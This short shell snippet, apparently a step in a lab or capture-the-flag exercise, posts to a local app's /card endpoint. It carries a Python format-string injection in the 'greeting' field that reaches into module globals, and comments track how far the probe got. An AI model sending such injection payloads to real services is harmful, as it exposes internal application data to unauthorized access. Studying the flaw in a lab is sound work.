# reaches: looked inside an object
# reaches: reached the globals
#-- the globals' names, but not what they hold
curl -s http://app:8080/card -d sender=Ann -d to=Bo --data-urlencode 'greeting={card.line.__globals__[__name__]}'
echo none
